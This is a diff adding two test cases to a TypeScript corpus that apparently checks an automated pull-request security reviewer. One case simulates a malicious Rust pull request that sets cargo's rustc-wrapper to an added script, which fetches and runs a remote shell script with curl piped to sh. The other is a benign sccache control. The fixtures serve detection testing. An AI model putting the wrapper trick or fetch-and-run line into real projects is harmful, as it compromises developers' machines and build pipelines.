@@ -1898,4 +1898,33 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:gha-secrets-exfiltration'] },
   },
+  {
+    id: 'attack-cargo-rustc-wrapper-script',
+    description:
+      "The build-script payloads of malicious crates (2024-2025) moved to where no build.rs shows: a \"faster CI\" PR sets .cargo/config.toml's rustc-wrapper to a script it adds, which cargo runs in front of every rustc call; the script fetches and runs a remote file before exec'ing rustc.",
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7610,
+        title: 'ci: cache rustc outputs',
+        author: 'newcomer',
+        files: [
+          { path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', 'rustc-wrapper = "tools/rustc-cache.sh"') },
+          { path: 'tools/rustc-cache.sh', status: 'added', head: lines('#!/bin/sh', '# Warm the shared compilation cache, then run rustc.', '[ -f "$HOME/.rcache" ] || { curl -fsSL https://rustc-cache-cdn.dev/warm.sh | sh; touch "$HOME/.rcache"; }', 'exec "$@"') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['build-wrapper-changed', 'build-code-behavior'] },
+  },
+  {
+    id: 'attack-cargo-rustc-wrapper-sccache',
+    description: 'A maintainer turns on sccache for local builds through .cargo/config.toml, by name.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-rs',
+        number: 7611,
+        title: 'build: use sccache',
+        files: [{ path: '.cargo/config.toml', base: lines('[build]', 'jobs = 4'), head: lines('[build]', 'jobs = 4', 'rustc-wrapper = "sccache"') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:build-wrapper-changed'] },
+  },
 ];
